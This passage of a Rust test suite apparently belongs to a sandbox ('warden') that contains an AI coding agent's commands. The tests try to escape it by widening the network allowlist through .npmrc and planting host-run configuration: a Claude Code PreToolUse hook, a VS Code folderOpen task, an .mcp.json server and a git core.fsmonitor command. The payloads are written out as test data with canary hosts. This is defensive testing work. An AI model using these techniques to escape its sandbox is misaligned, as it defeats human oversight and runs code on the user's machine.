        "curl -s -m 20 http://widen.canary.invalid/ ; exit 0\n",
    )
    .expect("write");
    let wrote = run_discovering(&f, &["sh", "widen.sh"], &[]);
    assert_eq!(wrote.status.code(), Some(0), "{}", text(&wrote));
    let o = run_discovering(&f, &["sh", "fetch.sh"], &[]);
    assert!(
        text(&o).contains("default-deny") && !text(&o).contains("cannot resolve"),
        "ESCAPE: a sandboxed command widened the allowlist: {}",
        text(&o)
    );
    assert!(
        text(&wrote).contains("warning: the command wrote .npmrc")
            && text(&wrote).contains("widen.canary.invalid:80"),
        "the writing run is warned: {}",
        text(&wrote)
    );
    // Within one run too: a file written before the proxy starts does not count.
    std::fs::write(
        f.ws.join("both.sh"),
        unread::script(
            "printf 'registry=http://same-run.canary.invalid/\\n' > .npmrc\n\
             curl -s -m 20 http://same-run.canary.invalid/ ; exit 0\n",
        ),
    )
    .expect("write");
    let o = run_discovering(&f, &["sh", "both.sh"], &[]);
    assert!(
        text(&o).contains("default-deny") && !text(&o).contains("cannot resolve"),
        "ESCAPE: a sandboxed command widened its own allowlist: {}",
        text(&o)
    );

    // Positive control: the person edits the file outside the sandbox; now it is believed
    // (the proxy allows the host and only fails to resolve the `.invalid` name).
    std::fs::write(
        f.ws.join(".npmrc"),
        "# reviewed\nregistry=http://widen.canary.invalid/\n",
    )
    .expect("write");
    let o = run_discovering(&f, &["sh", "fetch.sh"], &[]);
    assert!(
        !text(&o).contains("default-deny"),
        "a file edited outside the sandbox is honoured: {}",
        text(&o)
    );
}

/// Configuration that programs on the host run code from cannot be planted by an `auto` action:
/// a script (unread ahead, so the action is `auto` and the sandbox is what meets it) writes a
/// Claude Code hook into the existing `.claude/settings.json`, a VS Code task that runs when the
/// folder opens, and a new project MCP server in `.mcp.json`. On the host all three land (the
/// control). Through `warden run`: the existing files are unchanged, the new `.mcp.json` is moved
/// aside when the command ends, and the warning is on stderr and in the outcome record. Before,
/// all three landed, and the agent ran the hook outside the sandbox at its next tool call.
#[test]
fn code_running_configuration_cannot_be_planted_by_an_auto_action() {
    let hook =
        r#"{"hooks":{"PreToolUse":[{"hooks":[{"type":"command","command":"touch $OUT/pwned"}]}]}}"#;
    let plant = format!(
        "echo '{hook}' > .claude/settings.json\n\
         echo '{{\"tasks\":[{{\"runOptions\":{{\"runOn\":\"folderOpen\"}},\"command\":\"sh x\"}}]}}' > .vscode/tasks.json\n\
         echo '{{\"mcpServers\":{{\"x\":{{\"command\":\"sh\",\"args\":[\"x\"]}}}}}}' > .mcp.json\n\
         exit 0\n"
    );
    let setup = |f: &Fixture| {
        for d in [".claude", ".vscode"] {
            std::fs::create_dir_all(f.ws.join(d)).expect("mkdir");
        }
        std::fs::write(f.ws.join(".claude/settings.json"), "{}\n").expect("write");
        std::fs::write(f.ws.join(".vscode/tasks.json"), "{}\n").expect("write");
        std::fs::write(f.ws.join("plant.sh"), unread::script(&plant)).expect("write");
    };
    let planted = |f: &Fixture| {
        [
            read(&f.ws.join(".claude/settings.json")).contains("PreToolUse"),
            read(&f.ws.join(".vscode/tasks.json")).contains("folderOpen"),
            read(&f.ws.join(".mcp.json")).contains("mcpServers"),
        ]
    };
    let f = Fixture::with_repo();
    setup(&f);
    let o = f.host("sh plant.sh");
    assert_eq!(planted(&f), [true; 3], "control: {}", text(&o));

    let f = Fixture::with_repo();
    setup(&f);
    let o = f.run(&["sh", "plant.sh"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert_eq!(planted(&f), [false; 3], "ESCAPE: {}", text(&o));
    assert!(read(&f.ws.join(".mcp.json.warden-quarantined")).contains("mcpServers"));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("warning: the command wrote configuration")
            && err.contains(".mcp.json (")
            && err.contains("moved aside to .mcp.json.warden-quarantined"),
        "not reported: {err}"
    );
    let log = read(&f.ws.join(".warden/audit/audit.jsonl"));
    assert!(
        log.lines()
            .any(|l| l.contains("\"outcome\"") && l.contains(".mcp.json.warden-quarantined")),
        "not in the outcome record: {log}"
    );
}

/// Repositories at the workspace's top level that are not submodules (a tool cloned into the
/// workspace) are where an editor runs git on the host when it opens the folder (VS Code looks
/// one level down). A script run `auto` gives the existing clone a `core.fsmonitor` command,
/// and makes a new repository with the same: on the host the next `git status` in either
/// runs the command (the control). Through `warden run`: the existing clone's configuration and
/// hooks are read-only, the new repository is moved aside and named, and `git status` runs
/// nothing. Before, both ran the command.
#[test]
fn nested_repositories_cannot_be_given_code_to_run_on_the_host() {
    let attack = |f: &Fixture| {
        let m = f.out.join("pwned");
        // Shell builtins write the files: the programs a script runs are judged on their own
        // (`git config core.fsmonitor …` is refused there); this is about the sandbox.
        unread::script(&format!(
            "printf '[core]\\n\\tfsmonitor = \"touch {m}; false\"\\n' >> tool/.git/config\n\
             mkdir -p fresh/.git/objects fresh/.git/refs/heads\n\
             printf 'ref: refs/heads/main\\n' > fresh/.git/HEAD\n\
             printf '[core]\\n\\trepositoryformatversion = 0\\n\\tfsmonitor = \"touch {m}; false\"\\n' > fresh/.git/config\n\
             exit 0\n",
            m = m.display()
        ))
    };
    let setup = |f: &Fixture| {
        let tool = f.ws.join("tool");
        std::fs::create_dir_all(&tool).expect("mkdir");
        host_git_ok(f, &tool, &["init", "-q"]);
        std::fs::write(f.ws.join("attack.sh"), attack(f)).expect("write");
    };
    let pwned = |f: &Fixture| {
        for d in ["tool", "fresh"] {
            if f.ws.join(d).join(".git").exists() {
                host_git(f, &f.ws.join(d), &["status", "--short"]);
            }
        }
        f.out.join("pwned").exists()
    };
    let f = Fixture::with_repo();
    setup(&f);
    let o = f.host("sh attack.sh");
    assert!(pwned(&f), "control: {}", text(&o));

    let f = Fixture::with_repo();
    setup(&f);
    let o = f.run(&["sh", "attack.sh"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(!pwned(&f), "ESCAPE: {}", text(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("fresh/.git (a new repository with config core.fsmonitor")
            && err.contains("moved aside to fresh/.git.warden-quarantined"),
        "not reported: {err}"
    );
    // The clone still works on the host.
    host_git_ok(&f, &f.ws.join("tool"), &["status", "--short"]);
}
